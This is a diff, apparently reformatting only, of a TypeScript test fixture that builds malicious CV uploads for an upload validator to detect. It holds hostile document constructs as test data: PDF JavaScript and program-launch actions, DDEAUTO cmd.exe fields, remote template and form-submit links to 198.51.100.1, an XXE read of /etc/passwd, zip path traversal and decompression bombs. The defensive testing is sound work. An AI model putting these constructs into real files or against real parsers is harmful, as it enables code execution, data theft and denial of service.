@@ -25,11 +25,20 @@ function pdf(objects: string[], trailer = ''): Uint8Array {
   })
   const start = out.length
   out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`
-  return new Uint8Array(text(`${out}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`))
+  return new Uint8Array(
+    text(
+      `${out}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
+    ),
+  )
 }
 
-const stream = (content: string, dictionary = '') => `<< /Length ${content.length} ${dictionary} >>\nstream\n${content}\nendstream`
-const LINES = Array.from({ length: 12 }, (_, i) => `BT /F1 11 Tf 50 ${760 - i * 20} Td (Jane Doe works here as an engineer since 2019, line ${i}) Tj ET`).join('\n')
+const stream = (content: string, dictionary = '') =>
+  `<< /Length ${content.length} ${dictionary} >>\nstream\n${content}\nendstream`
+const LINES = Array.from(
+  { length: 12 },
+  (_, i) =>
+    `BT /F1 11 Tf 50 ${760 - i * 20} Td (Jane Doe works here as an engineer since 2019, line ${i}) Tj ET`,
+).join('\n')
 const honest = (extraCatalog = '', extra: string[] = [], content = LINES, page = '') => [
   `<< /Type /Catalog /Pages 2 0 R ${extraCatalog} >>`,
   '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
@@ -44,24 +53,44 @@ const packed = (object: string) => {
   return stream(data, `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`)
 }
 
-const CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
+const CONTENT_TYPES =
+  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
 const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
-const document = (body: string) => `<?xml version="1.0"?><w:document ${W}><w:body>${body}</w:body></w:document>`
+const document = (body: string) =>
+  `<?xml version="1.0"?><w:document ${W}><w:body>${body}</w:body></w:document>`
 const paragraph = (content: string) => `<w:p><w:r><w:t>${content}</w:t></w:r></w:p>`
-const PLAIN = document(paragraph('Jane Doe') + paragraph('Engineer at Example Ltd since 2019') + paragraph('jane@example.com'))
-const RELS = (relations: string) => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`
-const external = (type: string, target: string) => `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`
+const PLAIN = document(
+  paragraph('Jane Doe') +
+    paragraph('Engineer at Example Ltd since 2019') +
+    paragraph('jane@example.com'),
+)
+const RELS = (relations: string) =>
+  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`
+const external = (type: string, target: string) =>
+  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`
 
 function docx(parts: Record<string, string | Uint8Array>): Uint8Array {
-  const all: Record<string, string | Uint8Array> = { '[Content_Types].xml': CONTENT_TYPES, 'word/document.xml': PLAIN, ...parts }
-  return zipSync(Object.fromEntries(Object.entries(all).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part])))
+  const all: Record<string, string | Uint8Array> = {
+    '[Content_Types].xml': CONTENT_TYPES,
+    'word/document.xml': PLAIN,
+    ...parts,
+  }
+  return zipSync(
+    Object.fromEntries(
+      Object.entries(all).map(([name, part]) => [
+        name,
+        typeof part === 'string' ? strToU8(part) : part,
+      ]),
+    ),
+  )
 }
 
 /** Changes bytes of the central directory, which is what a reader trusts. */
 function patched(bytes: Uint8Array, change: (view: DataView, entry: number) => void): Uint8Array {
   const copy = bytes.slice()
   const view = new DataView(copy.buffer)
-  for (let at = 0; at + 46 < copy.length; at++) if (view.getUint32(at, true) === 0x02014b50) change(view, at)
+  for (let at = 0; at + 46 < copy.length; at++)
+    if (view.getUint32(at, true) === 0x02014b50) change(view, at)
   return copy
 }
 
@@ -70,18 +99,43 @@ export function makeHostileFiles(): HostileFile[] {
 }
 
 function wrongFiles(): HostileFile[] {
-  const file = (title: string, fileName: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({ title, fileName, bytes, expected })
+  const file = (
+    title: string,
+    fileName: string,
+    bytes: Uint8Array,
+    ...expected: HostileFile['expected']
+  ) => ({ title, fileName, bytes, expected })
   const good = pdf(honest())
   return [
     file('nothing at all', 'cv.pdf', new Uint8Array(), 'empty'),
     file('nothing, named as a document', 'cv.docx', new Uint8Array(), 'empty'),
     file('zeros only', 'cv.pdf', new Uint8Array(5000), 'damaged', 'wrong-type'),
     file('plain text named as a PDF', 'cv.pdf', text('Jane Doe\nEngineer'), 'wrong-type'),
-    file('a web page named as a DOC', 'cv.doc', text('<html><script>alert(1)</script></html>'), 'wrong-type'),
-    file('RTF named as a DOC', 'cv.doc', text('{\\rtf1\\ansi{\\object\\objdata 0105}}'), 'wrong-type'),
-    file('a program named as a PDF', 'cv.pdf', join(text('MZ\u0090\u0000'), new Uint8Array(600)), 'wrong-type'),
+    file(
+      'a web page named as a DOC',
+      'cv.doc',
+      text('<html><script>alert(1)</script></html>'),
+      'wrong-type',
+    ),
+    file(
+      'RTF named as a DOC',
+      'cv.doc',
+      text('{\\rtf1\\ansi{\\object\\objdata 0105}}'),
+      'wrong-type',
+    ),
+    file(
+      'a program named as a PDF',
+      'cv.pdf',
+      join(text('MZ\u0090\u0000'), new Uint8Array(600)),
+      'wrong-type',
+    ),
     file('a Linux program', 'cv.pdf', join(text('\u007fELF'), new Uint8Array(600)), 'wrong-type'),
-    file('a picture named as a PDF', 'cv.pdf', join(text('\u0089PNG\r\n\u001a\n'), new Uint8Array(600)), 'wrong-type'),
+    file(
+      'a picture named as a PDF',
+      'cv.pdf',
+      join(text('\u0089PNG\r\n\u001a\n'), new Uint8Array(600)),
+      'wrong-type',
+    ),
     file('an SVG picture', 'cv.svg', text('<svg onload="alert(1)"/>'), 'wrong-type'),
     file('a PDF named as a document', 'cv.docx', good, 'wrong-type'),
     file('a PDF without an extension', 'cv', good, 'wrong-type'),
@@ -90,16 +144,40 @@ function wrongFiles(): HostileFile[] {
     file('a document named as an old one', 'cv.doc', docx({}), 'wrong-type'),
     file('11 MB of a PDF', 'cv.pdf', join(good, new Uint8Array(11 * 1024 * 1024)), 'too-large'),
     file('a zip of something else', 'cv.zip', zipSync({ 'a.txt': strToU8('a') }), 'wrong-type'),
-    file('a spreadsheet named as a document', 'cv.docx', zipSync({ '[Content_Types].xml': strToU8(CONTENT_TYPES), 'xl/workbook.xml': strToU8('<a/>') }), 'wrong-type'),
+    file(
+      'a spreadsheet named as a document',
+      'cv.docx',
+      zipSync({
+        '[Content_Types].xml': strToU8(CONTENT_TYPES),
+        'xl/workbook.xml': strToU8('<a/>'),
+      }),
+      'wrong-type',
+    ),
     file('a name that climbs out of its folder', '../../etc/passwd', good, 'wrong-type'),
     file('a name with control characters', 'cv\u0000.pdf\u202efdp.exe', good, 'wrong-type'),
-    file('random bytes', 'cv.pdf', Uint8Array.from({ length: 4000 }, (_, i) => (i * 7919 + ((i * i) % 251)) % 256), 'wrong-type', 'damaged'),
-    file('a gzip file', 'cv.docx', join(Uint8Array.from([0x1f, 0x8b, 8, 0]), new Uint8Array(200)), 'wrong-type'),
+    file(
+      'random bytes',
+      'cv.pdf',
+      Uint8Array.from({ length: 4000 }, (_, i) => (i * 7919 + ((i * i) % 251)) % 256),
+      'wrong-type',
+      'damaged',
+    ),
+    file(
+      'a gzip file',
+      'cv.docx',
+      join(Uint8Array.from([0x1f, 0x8b, 8, 0]), new Uint8Array(200)),
+      'wrong-type',
+    ),
   ]
 }
 
 function pdfFiles(): HostileFile[] {
-  const file = (title: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({ title: `PDF: ${title}`, fileName: 'cv.pdf', bytes, expected })
+  const file = (title: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({
+    title: `PDF: ${title}`,
+    fileName: 'cv.pdf',
+    bytes,
+    expected,
+  })
   const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
   const good = pdf(honest())
   const loop = honest()
@@ -109,80 +187,381 @@ function pdfFiles(): HostileFile[] {
   manyPages[1] = `<< /Type /Pages /Kids [${'3 0 R '.repeat(50_000)}] /Count 50000 >>`
   return [
     file('JavaScript when it opens', pdf(honest(`/OpenAction ${script}`)), 'unsafe'),
-    file('JavaScript in its name tree', pdf(honest(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`)), 'unsafe'),
-    file('JavaScript under an escaped name', pdf(honest('/OpenAction << /S /J#61vaScript /#4a#53 (1) >>')), 'unsafe'),
+    file(
+      'JavaScript in its name tree',
+      pdf(honest(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`)),
+      'unsafe',
+    ),
+    file(
+      'JavaScript under an escaped name',
+      pdf(honest('/OpenAction << /S /J#61vaScript /#4a#53 (1) >>')),
+      'unsafe',
+    ),
     file('JavaScript on a page', pdf(honest('', [], LINES, `/AA << /O ${script} >>`)), 'unsafe'),
-    file('JavaScript in a packed object', pdf(honest('/OpenAction 6 0 R', [packed(script)])), 'unsafe'),
+    file(
+      'JavaScript in a packed object',
+      pdf(honest('/OpenAction 6 0 R', [packed(script)])),
+      'unsafe',
+    ),
     file('starts a program', pdf(honest('/OpenAction << /S /Launch /F (cmd.exe) >>')), 'unsafe'),
-    file('starts a program from a link', pdf(honest('', [], LINES, '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (sh) >> >>]')), 'unsafe'),
-    file('carries an attachment', pdf(honest('/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 6 0 R >> >>] >> >>', [stream('MZ', '/Type /EmbeddedFile')])), 'unsafe'),
-    file('sends a form', pdf(honest('/OpenAction << /S /SubmitForm /F (http://198.51.100.1/) >>')), 'unsafe'),
-    file('loads data from elsewhere', pdf(honest('/OpenAction << /S /ImportData /F (x.fdf) >>')), 'unsafe'),
-    file('has an XFA form', pdf(honest('/AcroForm << /XFA 6 0 R >>', [stream('<xdp/>')])), 'unsafe'),
-    file('plays rich media', pdf(honest('', [], LINES, '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]')), 'unsafe'),
-    file('opens another document inside', pdf(honest('/OpenAction << /S /GoToE /T << /R /C >> >>')), 'unsafe'),
-    file('is encrypted', pdf(honest(), '/Encrypt << /Filter /Standard /V 1 /R 2 /O (01234567890123456789012345678901) /U (01234567890123456789012345678901) /P -4 >>'), 'encrypted'),
+    file(
+      'starts a program from a link',
+      pdf(
+        honest(
+          '',
+          [],
+          LINES,
+          '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (sh) >> >>]',
+        ),
+      ),
+      'unsafe',
+    ),
+    file(
+      'carries an attachment',
+      pdf(
+        honest(
+          '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 6 0 R >> >>] >> >>',
+          [stream('MZ', '/Type /EmbeddedFile')],
+        ),
+      ),
+      'unsafe',
+    ),
+    file(
+      'sends a form',
+      pdf(honest('/OpenAction << /S /SubmitForm /F (http://198.51.100.1/) >>')),
+      'unsafe',
+    ),
+    file(
+      'loads data from elsewhere',
+      pdf(honest('/OpenAction << /S /ImportData /F (x.fdf) >>')),
+      'unsafe',
+    ),
+    file(
+      'has an XFA form',
+      pdf(honest('/AcroForm << /XFA 6 0 R >>', [stream('<xdp/>')])),
+      'unsafe',
+    ),
+    file(
+      'plays rich media',
+      pdf(honest('', [], LINES, '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]')),
+      'unsafe',
+    ),
+    file(
+      'opens another document inside',
+      pdf(honest('/OpenAction << /S /GoToE /T << /R /C >> >>')),
+      'unsafe',
+    ),
+    file(
+      'is encrypted',
+      pdf(
+        honest(),
+        '/Encrypt << /Filter /Standard /V 1 /R 2 /O (01234567890123456789012345678901) /U (01234567890123456789012345678901) /P -4 >>',
+      ),
+      'encrypted',
+    ),
     file('is cut in half', good.slice(0, Math.floor(good.length / 2)), 'damaged'),
     file('is cut after its first line', good.slice(0, 9), 'damaged'),
     file('has junk in front', join(text('GIF89a................'), good), 'unsafe', 'wrong-type'),
     file('is a zip file as well', join(good, docx({})), 'unsafe'),
-    file('has no pages', pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']), 'damaged', 'image-only'),
-    file('has a page tree that bites its tail', pdf(loop), 'damaged', 'read', 'too-slow', 'image-only'),
+    file(
+      'has no pages',
+      pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
+      'damaged',
+      'image-only',
+    ),
+    file(
+      'has a page tree that bites its tail',
+      pdf(loop),
+      'damaged',
+      'read',
+      'too-slow',
+      'image-only',
+    ),
     file('claims fifty thousand pages', pdf(manyPages), 'read', 'too-slow', 'damaged'),
-    file('nests arrays twenty thousand deep', pdf(honest('/Extra 6 0 R', [deepArray])), 'read', 'damaged', 'too-slow'),
-    file('unpacks its page to 200 MB', pdf(honest('', [], '').map((object, i) => (i === 3 ? stream(deflateSync(Buffer.alloc(200 * 1024 * 1024, 32)).toString('latin1'), '/Filter /FlateDecode') : object))), 'too-slow', 'image-only', 'damaged'),
-    file('draws itself for ever', pdf(honest('', [stream('/X0 Do', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X0 6 0 R >> >>')], '/X0 Do', '').map((o, i) => (i === 2 ? o.replace('/Resources <<', '/Resources << /XObject << /X0 6 0 R >>') : o))), 'damaged', 'image-only', 'too-slow'),
-    file('writes a million letters', pdf(honest('', [], `BT /F1 1 Tf (${'A'.repeat(1_000_000)}) Tj ET`)), 'read', 'too-slow', 'damaged'),
-    file('is one picture', pdf(honest('', [], 'q 612 0 0 792 0 0 cm BI /W 1 /H 1 /BPC 8 /CS /G ID \u0000 EI Q')), 'image-only'),
-    file('has a wrong table of objects', new Uint8Array(text(Buffer.from(good).toString('latin1').replace(/\d{10} 00000 n/g, '0000000001 00000 n'))), 'read', 'damaged'),
-    file('links to javascript:', pdf(honest('', [], LINES, '/Annots [<< /Type /Annot /Subtype /Link /Rect [40 740 600 790] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]')), 'read'),
-    file('is honest, with a link', pdf(honest('', [], LINES, '/Annots [<< /Type /Annot /Subtype /Link /Rect [40 740 600 790] /A << /S /URI /URI (https://example.com) >> >>]')), 'read'),
+    file(
+      'nests arrays twenty thousand deep',
+      pdf(honest('/Extra 6 0 R', [deepArray])),
+      'read',
+      'damaged',
+      'too-slow',
+    ),
+    file(
+      'unpacks its page to 200 MB',
+      pdf(
+        honest('', [], '').map((object, i) =>
+          i === 3
+            ? stream(
+                deflateSync(Buffer.alloc(200 * 1024 * 1024, 32)).toString('latin1'),
+                '/Filter /FlateDecode',
+              )
+            : object,
+        ),
+      ),
+      'too-slow',
+      'image-only',
+      'damaged',
+    ),
+    file(
+      'draws itself for ever',
+      pdf(
+        honest(
+          '',
+          [
+            stream(
+              '/X0 Do',
+              '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X0 6 0 R >> >>',
+            ),
+          ],
+          '/X0 Do',
+          '',
+        ).map((o, i) =>
+          i === 2 ? o.replace('/Resources <<', '/Resources << /XObject << /X0 6 0 R >>') : o,
+        ),
+      ),
+      'damaged',
+      'image-only',
+      'too-slow',
+    ),
+    file(
+      'writes a million letters',
+      pdf(honest('', [], `BT /F1 1 Tf (${'A'.repeat(1_000_000)}) Tj ET`)),
+      'read',
+      'too-slow',
+      'damaged',
+    ),
+    file(
+      'is one picture',
+      pdf(honest('', [], 'q 612 0 0 792 0 0 cm BI /W 1 /H 1 /BPC 8 /CS /G ID \u0000 EI Q')),
+      'image-only',
+    ),
+    file(
+      'has a wrong table of objects',
+      new Uint8Array(
+        text(
+          Buffer.from(good)
+            .toString('latin1')
+            .replace(/\d{10} 00000 n/g, '0000000001 00000 n'),
+        ),
+      ),
+      'read',
+      'damaged',
+    ),
+    file(
+      'links to javascript:',
+      pdf(
+        honest(
+          '',
+          [],
+          LINES,
+          '/Annots [<< /Type /Annot /Subtype /Link /Rect [40 740 600 790] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]',
+        ),
+      ),
+      'read',
+    ),
+    file(
+      'is honest, with a link',
+      pdf(
+        honest(
+          '',
+          [],
+          LINES,
+          '/Annots [<< /Type /Annot /Subtype /Link /Rect [40 740 600 790] /A << /S /URI /URI (https://example.com) >> >>]',
+        ),
+      ),
+      'read',
+    ),
     file('is honest, and opens at a page', pdf(honest('/OpenAction [3 0 R /Fit]')), 'read'),
   ]
 }
 
 function docxFiles(): HostileFile[] {
-  const file = (title: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({ title: `DOCX: ${title}`, fileName: 'cv.docx', bytes, expected })
-  const many = Object.fromEntries(Array.from({ length: 2100 }, (_, i) => [`word/media/${i}.xml`, '<a/>']))
-  const laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
+  const file = (title: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({
+    title: `DOCX: ${title}`,
+    fileName: 'cv.docx',
+    bytes,
+    expected,
+  })
+  const many = Object.fromEntries(
+    Array.from({ length: 2100 }, (_, i) => [`word/media/${i}.xml`, '<a/>']),
+  )
+  const laughs =
+    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
   return [
     file('macros', docx({ 'word/vbaProject.bin': new Uint8Array(64) }), 'unsafe'),
-    file('macros by content type', docx({ '[Content_Types].xml': CONTENT_TYPES.replace('application/xml', 'application/vnd.ms-word.document.macroEnabled.main+xml') }), 'unsafe'),
+    file(
+      'macros by content type',
+      docx({
+        '[Content_Types].xml': CONTENT_TYPES.replace(
+          'application/xml',
+          'application/vnd.ms-word.document.macroEnabled.main+xml',
+        ),
+      }),
+      'unsafe',
+    ),
     file('an ActiveX control', docx({ 'word/activeX/activeX1.bin': new Uint8Array(64) }), 'unsafe'),
-    file('an embedded object', docx({ 'word/embeddings/oleObject1.bin': new Uint8Array(64) }), 'unsafe'),
-    file('a template from elsewhere', docx({ 'word/_rels/settings.xml.rels': RELS(external('attachedTemplate', 'http://198.51.100.1/t.dotm')) }), 'unsafe'),
-    file('an object from elsewhere', docx({ 'word/_rels/document.xml.rels': RELS(external('oleObject', 'mhtml:http://198.51.100.1/x')) }), 'unsafe'),
-    file('a frame from elsewhere', docx({ 'word/_rels/webSettings.xml.rels': RELS(external('frame', 'http://198.51.100.1/')) }), 'unsafe'),
-    file('DDE in a field', docx({ 'word/document.xml': document('<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>') }), 'unsafe'),
-    file('DDE cut into runs', docx({ 'word/document.xml': document('<w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd </w:instrText></w:r></w:p>') }), 'unsafe'),
-    file('DDE in a simple field', docx({ 'word/document.xml': document('<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>') }), 'unsafe'),
+    file(
+      'an embedded object',
+      docx({ 'word/embeddings/oleObject1.bin': new Uint8Array(64) }),
+      'unsafe',
+    ),
+    file(
+      'a template from elsewhere',
+      docx({
+        'word/_rels/settings.xml.rels': RELS(
+          external('attachedTemplate', 'http://198.51.100.1/t.dotm'),
+        ),
+      }),
+      'unsafe',
+    ),
+    file(
+      'an object from elsewhere',
+      docx({
+        'word/_rels/document.xml.rels': RELS(external('oleObject', 'mhtml:http://198.51.100.1/x')),
+      }),
+      'unsafe',
+    ),
+    file(
+      'a frame from elsewhere',
+      docx({ 'word/_rels/webSettings.xml.rels': RELS(external('frame', 'http://198.51.100.1/')) }),
+      'unsafe',
+    ),
+    file(
+      'DDE in a field',
+      docx({
+        'word/document.xml': document(
+          '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
+        ),
+      }),
+      'unsafe',
+    ),
+    file(
+      'DDE cut into runs',
+      docx({
+        'word/document.xml': document(
+          '<w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd </w:instrText></w:r></w:p>',
+        ),
+      }),
+      'unsafe',
+    ),
+    file(
+      'DDE in a simple field',
+      docx({ 'word/document.xml': document('<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>') }),
+      'unsafe',
+    ),
     file('a document type', docx({ 'word/document.xml': `<!DOCTYPE a>${PLAIN}` }), 'unsafe'),
-    file('an external entity', docx({ 'word/document.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${PLAIN}` }), 'unsafe'),
+    file(
+      'an external entity',
+      docx({
+        'word/document.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${PLAIN}`,
+      }),
+      'unsafe',
+    ),
     file('a billion laughs', docx({ 'docProps/core.xml': laughs }), 'unsafe'),
     file('more than 2,000 parts', docx(many), 'too-large'),
-    file('60 MB of spaces', docx({ 'word/document.xml': new Uint8Array(60 * 1024 * 1024).fill(32) }), 'too-large'),
-    file('40 MB of spaces', docx({ 'word/document.xml': join(strToU8('<w:document><w:body>'), new Uint8Array(40 * 1024 * 1024).fill(32)) }), 'damaged', 'too-slow', 'image-only'),
-    file('a part that lies about its size', patched(docx({ 'word/document.xml': new Uint8Array(20 * 1024 * 1024).fill(65) }), (view, at) => view.setUint32(at + 24, 100, true)), 'too-large', 'damaged'),
-    file('parts that share their bytes', patched(docx({ 'word/a.xml': '<a/>', 'word/b.xml': '<a/>' }), (view, at) => view.setUint32(at + 42, 0, true)), 'unsafe', 'damaged'),
-    file('encrypted parts', patched(docx({}), (view, at) => view.setUint16(at + 8, 1, true)), 'encrypted'),
-    file('an unknown packing method', patched(docx({}), (view, at) => view.setUint16(at + 10, 99, true)), 'damaged'),
+    file(
+      '60 MB of spaces',
+      docx({ 'word/document.xml': new Uint8Array(60 * 1024 * 1024).fill(32) }),
+      'too-large',
+    ),
+    file(
+      '40 MB of spaces',
+      docx({
+        'word/document.xml': join(
+          strToU8('<w:document><w:body>'),
+          new Uint8Array(40 * 1024 * 1024).fill(32),
+        ),
+      }),
+      'damaged',
+      'too-slow',
+      'image-only',
+    ),
+    file(
+      'a part that lies about its size',
+      patched(
+        docx({ 'word/document.xml': new Uint8Array(20 * 1024 * 1024).fill(65) }),
+        (view, at) => view.setUint32(at + 24, 100, true),
+      ),
+      'too-large',
+      'damaged',
+    ),
+    file(
+      'parts that share their bytes',
+      patched(docx({ 'word/a.xml': '<a/>', 'word/b.xml': '<a/>' }), (view, at) =>
+        view.setUint32(at + 42, 0, true),
+      ),
+      'unsafe',
+      'damaged',
+    ),
+    file(
+      'encrypted parts',
+      patched(docx({}), (view, at) => view.setUint16(at + 8, 1, true)),
+      'encrypted',
+    ),
+    file(
+      'an unknown packing method',
+      patched(docx({}), (view, at) => view.setUint16(at + 10, 99, true)),
+      'damaged',
+    ),
     file('a part that climbs out', docx({ '../../etc/cron.d/x': 'x' }), 'unsafe'),
     file('a part with an absolute path', docx({ '/etc/passwd': 'x' }), 'unsafe'),
-    file('100,000 nested elements', docx({ 'word/document.xml': document(`<w:p>${'<w:sdt>'.repeat(100_000)}`) }), 'unsafe', 'damaged'),
-    file('nested tables, 5,000 deep', docx({ 'word/document.xml': document('<w:tbl><w:tr><w:tc>'.repeat(5000)) }), 'unsafe', 'damaged'),
-    file('a million paragraphs', docx({ 'word/document.xml': document('<w:p/>'.repeat(1_000_000)) }), 'unsafe', 'damaged', 'image-only', 'too-slow'),
-    file('a style that inherits from itself', docx({ 'word/styles.xml': `<w:styles ${W}><w:style w:type="paragraph" w:default="1" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>` }), 'read'),
+    file(
+      '100,000 nested elements',
+      docx({ 'word/document.xml': document(`<w:p>${'<w:sdt>'.repeat(100_000)}`) }),
+      'unsafe',
+      'damaged',
+    ),
+    file(
+      'nested tables, 5,000 deep',
+      docx({ 'word/document.xml': document('<w:tbl><w:tr><w:tc>'.repeat(5000)) }),
+      'unsafe',
+      'damaged',
+    ),
+    file(
+      'a million paragraphs',
+      docx({ 'word/document.xml': document('<w:p/>'.repeat(1_000_000)) }),
+      'unsafe',
+      'damaged',
+      'image-only',
+      'too-slow',
+    ),
+    file(
+      'a style that inherits from itself',
+      docx({
+        'word/styles.xml': `<w:styles ${W}><w:style w:type="paragraph" w:default="1" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
+      }),
+      'read',
+    ),
     file('no body', docx({ 'word/document.xml': '<w:document/>' }), 'damaged'),
     file('no text', docx({ 'word/document.xml': document('<w:p/>') }), 'image-only'),
     file('its end is missing', docx({}).slice(0, 300), 'damaged'),
     file('its middle is missing', join(docx({}).slice(0, 60), docx({}).slice(200)), 'damaged'),
-    file('a link to javascript:', docx({ 'word/_rels/document.xml.rels': RELS(external('hyperlink', 'javascript:alert(1)')), 'word/document.xml': document(`<w:p><w:hyperlink r:id="r1"><w:r><w:t>Jane Doe, engineer since 2019</w:t></w:r></w:hyperlink></w:p>`) }), 'read'),
-    file('a linked picture', docx({ 'word/_rels/document.xml.rels': RELS(external('image', 'https://example.com/me.png')) }), 'read'),
+    file(
+      'a link to javascript:',
+      docx({
+        'word/_rels/document.xml.rels': RELS(external('hyperlink', 'javascript:alert(1)')),
+        'word/document.xml': document(
+          `<w:p><w:hyperlink r:id="r1"><w:r><w:t>Jane Doe, engineer since 2019</w:t></w:r></w:hyperlink></w:p>`,
+        ),
+      }),
+      'read',
+    ),
+    file(
+      'a linked picture',
+      docx({
+        'word/_rels/document.xml.rels': RELS(external('image', 'https://example.com/me.png')),
+      }),
+      'read',
+    ),
   ]
 }
 
 function docFiles(): HostileFile[] {
-  const file = (title: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({ title: `DOC: ${title}`, fileName: 'cv.doc', bytes, expected })
+  const file = (title: string, bytes: Uint8Array, ...expected: HostileFile['expected']) => ({
+    title: `DOC: ${title}`,
+    fileName: 'cv.doc',
+    bytes,
+    expected,
+  })
   const word = (flags = 0) => {
     const header = new Uint8Array(4096)
     new DataView(header.buffer).setUint16(0, 0xa5ec, true)
@@ -191,19 +570,50 @@ function docFiles(): HostileFile[] {
   }
   const ring = (sector: number) => sector
   return [
-    file('an encrypted new document', ole({ EncryptionInfo: new Uint8Array(64), EncryptedPackage: new Uint8Array(5000) }), 'encrypted'),
-    { ...file('an encrypted new document under its own name', ole({ EncryptionInfo: new Uint8Array(64), EncryptedPackage: new Uint8Array(5000) }), 'encrypted'), fileName: 'cv.docx' },
+    file(
+      'an encrypted new document',
+      ole({ EncryptionInfo: new Uint8Array(64), EncryptedPackage: new Uint8Array(5000) }),
+      'encrypted',
+    ),
+    {
+      ...file(
+        'an encrypted new document under its own name',
+        ole({ EncryptionInfo: new Uint8Array(64), EncryptedPackage: new Uint8Array(5000) }),
+        'encrypted',
+      ),
+      fileName: 'cv.docx',
+    },
     file('an encrypted old document', ole({ WordDocument: word(0x0100) }), 'encrypted'),
     file('macros', ole({ WordDocument: word(), Macros: new Uint8Array(64) }), 'unsafe'),
-    file('a VBA project', ole({ WordDocument: word(), _VBA_PROJECT: new Uint8Array(64) }), 'unsafe'),
+    file(
+      'a VBA project',
+      ole({ WordDocument: word(), _VBA_PROJECT: new Uint8Array(64) }),
+      'unsafe',
+    ),
     file('a spreadsheet', ole({ Workbook: new Uint8Array(5000) }), 'wrong-type'),
-    file('an installer', ole({ '\u4840\u3b3f\u43f2\u4438\u45b1': new Uint8Array(64) }), 'wrong-type'),
-    file('a chain of sectors in a circle', ole({ WordDocument: word() }, { chain: ring }), 'damaged'),
-    file('a directory in a circle', ole({ WordDocument: word() }, { directoryRing: true }), 'damaged'),
+    file(
+      'an installer',
+      ole({ '\u4840\u3b3f\u43f2\u4438\u45b1': new Uint8Array(64) }),
+      'wrong-type',
+    ),
+    file(
+      'a chain of sectors in a circle',
+      ole({ WordDocument: word() }, { chain: ring }),
+      'damaged',
+    ),
+    file(
+      'a directory in a circle',
+      ole({ WordDocument: word() }, { directoryRing: true }),
+      'damaged',
+    ),
     file('an impossible sector size', ole({ WordDocument: word() }, { shift: 31 }), 'damaged'),
     file('only its header', ole({ WordDocument: word() }).slice(0, 512), 'damaged'),
     file('its end is missing', ole({ WordDocument: word() }).slice(0, 2000), 'damaged'),
     file('no table of text', ole({ WordDocument: word() }), 'damaged', 'image-only'),
-    file('DDE in a field', ole({ WordDocument: join(word(), text('\u0013 DDEAUTO cmd.exe \u0015')) }), 'unsafe'),
+    file(
+      'DDE in a field',
+      ole({ WordDocument: join(word(), text('\u0013 DDEAUTO cmd.exe \u0015')) }),
+      'unsafe',
+    ),
   ]
 }
